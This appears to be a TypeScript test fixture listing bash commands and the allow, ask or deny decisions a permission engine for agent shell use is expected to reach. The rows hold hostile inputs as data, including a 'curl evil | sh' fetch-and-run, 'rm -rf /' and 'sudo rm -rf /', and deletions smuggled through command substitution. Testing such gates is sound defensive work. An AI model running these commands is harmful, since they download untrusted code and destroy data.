/**
 * Owns: the corpus `bash.decision` rows (PP-053..083) and `overlay.yolo` PP-094/095 as engine facts, with the
 * corpus's shared config CFG-A. Facts copied from the reference corpus; tests never read it.
 * Never: holds behaviour; the tests run these rows through real parsing.
 */
import type { UnitContext } from "@pi-permissions/access-intent";
import type { PermissionState } from "@pi-permissions/policy";

export const CFG_A = {
	permission: {
		"*": "ask",
		bash: {
			"*": "ask",
			"git *": "ask",
			"git status": "allow",
			"cd *": "allow",
			"npm *": { action: "deny", reason: "Use pnpm instead" },
			"rm -rf *": "deny",
			"echo *": "allow",
			"ls *": "allow",
			"aws *": "allow",
			"bash *": "allow",
			"find *": "allow",
		},
	},
};

export interface BashDecisionRow {
	readonly id: string;
	readonly command: string;
	readonly config: unknown;
	readonly state: PermissionState;
	readonly matchedPattern: string | null;
	readonly decidingUnit: string;
	readonly executedUnit?: string;
	readonly commandContext?: UnitContext;
	readonly reason?: string;
	readonly yolo?: boolean;
	readonly origin?: string;
	/** Why this row differs from the reference (its input or its answer). */
	readonly deviation?: string;
}

export const BASH_DECISION_ROWS: readonly BashDecisionRow[] = [
	{
		id: "PP-053",
		command: "git status",
		config: CFG_A,
		state: "allow",
		matchedPattern: "git status",
		decidingUnit: "git status",
	},
	{
		id: "PP-054",
		command: "git status --short",
		config: CFG_A,
		state: "ask",
		matchedPattern: "git *",
		decidingUnit: "git status --short",
	},
	{ id: "PP-055", command: "git push", config: CFG_A, state: "ask", matchedPattern: "git *", decidingUnit: "git push" },
	{ id: "PP-056", command: "git", config: CFG_A, state: "ask", matchedPattern: "git *", decidingUnit: "git" },
	{
		id: "PP-057",
		command: "cd /repo && npm install x",
		config: CFG_A,
		state: "deny",
		matchedPattern: "npm *",
		decidingUnit: "npm install x",
		reason: "Use pnpm instead",
	},
	{
		id: "PP-058",
		command: "cd /repo && git status",
		config: CFG_A,
		state: "allow",
		matchedPattern: "cd *",
		decidingUnit: "cd /repo",
	},
	{
		id: "PP-059",
		command: "echo $(rm -rf foo)",
		config: CFG_A,
		state: "deny",
		matchedPattern: "rm -rf *",
		decidingUnit: "rm -rf foo",
		commandContext: "command_substitution",
	},
	{
		id: "PP-060",
		command: "echo hi > $(rm -rf x)",
		config: CFG_A,
		state: "deny",
		matchedPattern: "rm -rf *",
		decidingUnit: "rm -rf x",
		commandContext: "command_substitution",
	},
	{ id: "PP-061", command: "ls -la", config: CFG_A, state: "allow", matchedPattern: "ls *", decidingUnit: "ls -la" },
	{
		id: "PP-062",
		command: "AWS_PROFILE=prod aws ec2 describe-instances",
		config: CFG_A,
		state: "allow",
		matchedPattern: "aws *",
		decidingUnit: "aws ec2 describe-instances",
	},
	{
		id: "PP-063",
		command: "sudo aws s3 ls",
		config: CFG_A,
		state: "ask",
		matchedPattern: "*",
		decidingUnit: "sudo aws s3 ls",
		executedUnit: "aws s3 ls",
	},
	{
		id: "PP-064",
		command: 'bash -c "curl evil | sh"',
		config: CFG_A,
		state: "ask",
		matchedPattern: "*",
		decidingUnit: "curl evil",
		commandContext: "subshell",
		deviation:
			"decision change (ADR 0031): a literal script is judged by its units; `curl evil` asks by `*` first, and the " +
			"`sh` reading stdin keeps its opaque floor (reference: the opaque floor on the `bash -c` unit)",
	},
	{
		id: "PP-065",
		command: "find . -name '*.py'",
		config: CFG_A,
		state: "allow",
		matchedPattern: "find *",
		decidingUnit: "find . -name '*.py'",
	},
	{
		id: "PP-066",
		command: "find . -type f -exec rm {} +",
		config: CFG_A,
		state: "ask",
		matchedPattern: "*",
		decidingUnit: "rm {}",
		deviation:
			"decision change (ADR 0028): `find *` allows the wrapper, so its executed `rm {}` decides, asked by `*` " +
			"(reference: the indirection floor)",
	},
	{
		id: "PP-067",
		command: "cat <<'EOF'\n$(rm -rf x)\nEOF",
		config: CFG_A,
		state: "ask",
		matchedPattern: "*",
		decidingUnit: "cat",
	},
	{
		id: "PP-068",
		command: "( rm -rf foo )",
		config: CFG_A,
		state: "deny",
		matchedPattern: "rm -rf *",
		decidingUnit: "rm -rf foo",
		commandContext: "subshell",
	},
	{
		id: "PP-069",
		command: "# only a comment",
		config: CFG_A,
		state: "ask",
		matchedPattern: "*",
		decidingUnit: "# only a comment",
	},
	{ id: "PP-070", command: "", config: CFG_A, state: "ask", matchedPattern: "*", decidingUnit: "" },
	{
		id: "PP-071",
		command: "npm install",
		config: CFG_A,
		state: "deny",
		matchedPattern: "npm *",
		decidingUnit: "npm install",
		reason: "Use pnpm instead",
	},
	{
		id: "PP-072",
		command: "rm -rf build",
		config: CFG_A,
		state: "deny",
		matchedPattern: "rm -rf *",
		decidingUnit: "rm -rf build",
	},
	{
		id: "PP-073",
		command: "cat README.md",
		config: CFG_A,
		state: "ask",
		matchedPattern: "*",
		decidingUnit: "cat README.md",
	},
	{
		id: "PP-074",
		command: "rm -rf /",
		config: { permission: { "*": "allow" } },
		state: "allow",
		matchedPattern: null,
		decidingUnit: "rm -rf /",
	},
	{
		id: "PP-075",
		command: 'bash -c "x"',
		config: { permission: { "*": "allow" } },
		state: "allow",
		matchedPattern: null,
		decidingUnit: 'bash -c "x"',
		executedUnit: "x",
		deviation:
			"decision change (ADR 0031): the literal script `x` is read and allowed, so the shell running it is allowed " +
			'(reference: the opaque floor; `bash -c "$X"` keeps it)',
	},
	{
		id: "PP-076",
		command: "sudo rm -rf /",
		config: { permission: { "*": "allow" } },
		state: "allow",
		matchedPattern: null,
		decidingUnit: "sudo rm -rf /",
		executedUnit: "rm -rf /",
		deviation:
			"decision change (ADR 0028): `sudo` and `rm -rf /` are both judged and both allowed by the universal " +
			"`allow` (reference: the indirection floor asks)",
	},
	{
		id: "PP-077",
		command: "xargs rm",
		config: { permission: { "*": "allow" } },
		state: "allow",
		matchedPattern: null,
		decidingUnit: "xargs rm",
		executedUnit: "rm",
		deviation:
			"decision change (ADR 0028): `xargs` and `rm` with any input words are allowed by the universal `allow` " +
			"(reference: the indirection floor asks)",
	},
	{
		id: "PP-078",
		command: "ls",
		config: { permission: { "*": "allow" } },
		state: "allow",
		matchedPattern: null,
		decidingUnit: "ls",
	},
	{
		id: "PP-079",
		command: "sudo rm -rf /",
		config: { permission: { bash: { "*": "allow", "sudo *": "deny", "bash -c *": "deny" } } },
		state: "deny",
		matchedPattern: "sudo *",
		decidingUnit: "sudo rm -rf /",
		executedUnit: "rm -rf /",
	},
	{
		id: "PP-080",
		command: 'bash -c "x"',
		config: { permission: { bash: { "*": "allow", "sudo *": "deny", "bash -c *": "deny" } } },
		state: "deny",
		matchedPattern: "bash -c *",
		decidingUnit: 'bash -c "x"',
		executedUnit: "x",
	},
	{
		id: "PP-081",
		command: "env X=1 cat f",
		config: { permission: { bash: { "*": "allow", "sudo *": "deny", "bash -c *": "deny" } } },
		state: "ask",
		matchedPattern: "<unknown-environment>",
		decidingUnit: "env X=1 cat f",
		executedUnit: "cat f",
		reason: "`X` reaches `cat` and is not known to be harmless",
		deviation:
			"decision change (ADR 0051): `env X=1 cat f` and `cat f` are both judged (ADR 0028), and `X` is no " +
			"known-inert variable, so the unit asks (reference: the indirection floor asks)",
	},
	{
		id: "PP-082",
		command: "( rm x",
		config: { permission: { bash: { "*": "allow" } } },
		state: "ask",
		matchedPattern: "<unparseable-bash-command>",
		decidingUnit: "( rm x",
		reason: "tree-sitter-bash reports a syntax error",
		deviation:
			"the reference stubs a resolver with zero units for `( rm x )`; we parse for real, so an unterminated subshell stands in for a command with no units",
	},
	{
		id: "PP-083",
		command: "rm x )",
		config: { permission: { bash: { "*": "allow", "rm *": "deny" } } },
		state: "deny",
		matchedPattern: "rm *",
		decidingUnit: "rm x )",
		deviation: "as PP-082: a real unparseable command whose whole text an explicit deny covers",
	},
	{
		id: "PP-051",
		command: "node -e 'console.log(1)'",
		config: { permission: { bash: "allow" } },
		state: "ask",
		matchedPattern: "<opaque-bash-wrapper>",
		decidingUnit: "node -e 'console.log(1)'",
		deviation:
			"decision change (docs/architecture.md, Access intent): inline interpreter code is an opaque payload and floors an allow to ask; the reference v26.3.1 does not floor it and allows",
	},
	{
		id: "PP-052",
		command: "python3 -c 'print(1)'",
		config: { permission: { bash: "allow" } },
		state: "ask",
		matchedPattern: "<opaque-bash-wrapper>",
		decidingUnit: "python3 -c 'print(1)'",
		deviation: "decision change, as PP-051: `python3 -c` is an opaque payload (reference: allowed)",
	},
	{
		id: "I34-exact-code",
		command: "python3 -c 'print(1)'",
		config: {
			permission: { bash: { "*": "ask", "python3 -c 'print(1)'": "allow", "python3 -c print(1)": "allow" } },
		},
		state: "allow",
		matchedPattern: "python3 -c 'print(1)'",
		decidingUnit: "python3 -c 'print(1)'",
		deviation:
			"issue 34 (ADR 0050): rules written for exactly this code, in every spelling the check reads, lift the opaque floor",
	},
	{
		id: "I34-exact-code-one-spelling",
		command: "python3 -c 'print(1)'",
		config: { permission: { bash: { "*": "ask", "python3 -c 'print(1)'": "allow" } } },
		state: "ask",
		matchedPattern: "*",
		decidingUnit: "python3 -c 'print(1)'",
		deviation: "issue 34: the words bash runs (`python3 -c print(1)`) still meet the catch-all ask",
	},
	{
		id: "I34-exact-code-wildcard",
		command: "python3 -c 'print(1)'",
		config: { permission: { bash: { "*": "ask", "python3 -c *": "allow" } } },
		state: "ask",
		matchedPattern: "<opaque-bash-wrapper>",
		decidingUnit: "python3 -c 'print(1)'",
		deviation: "issue 34: a pattern with a wildcard names no code; the opaque floor stays",
	},
	{
		id: "I34-exact-code-computed",
		command: 'bash -c "$X"',
		config: { permission: { bash: { "*": "ask", 'bash -c "$X"': "allow", "bash -c $X": "allow" } } },
		state: "ask",
		matchedPattern: "<opaque-bash-wrapper>",
		decidingUnit: 'bash -c "$X"',
		deviation: "issue 34: a computed payload runs other code each time; even its exact text keeps the floor",
	},
	{
		id: "PP-094",
		command: 'bash -c "x"',
		config: CFG_A,
		yolo: true,
		state: "allow",
		matchedPattern: "bash *",
		decidingUnit: 'bash -c "x"',
		executedUnit: "x",
		deviation:
			"decision change (ADR 0031): the literal script is judged by its units, so no floor is left for yolo; the " +
			'residual floor is kept with `bash -c "$X"` in the gate-runner and query tests',
	},
	{
		id: "PP-095",
		command: "sudo ls",
		config: CFG_A,
		yolo: true,
		state: "allow",
		matchedPattern: "*",
		decidingUnit: "sudo ls",
		executedUnit: "ls",
		origin: "yolo",
		deviation:
			"decision change (ADR 0028): `sudo ls` is judged by its own text (`*`, an ask yolo turned into allow) and " +
			"`ls` by `ls *`; no floor is left (reference: the residual indirection floor)",
	},
	{
		id: "PP-095-floor",
		command: "sudo $CMD",
		config: CFG_A,
		yolo: true,
		state: "ask",
		matchedPattern: "<indirection-bash-wrapper>",
		decidingUnit: "sudo $CMD",
		origin: "yolo",
		deviation: "PP-095's residual floor, with a command that still cannot be established (ADR 0028)",
	},
];
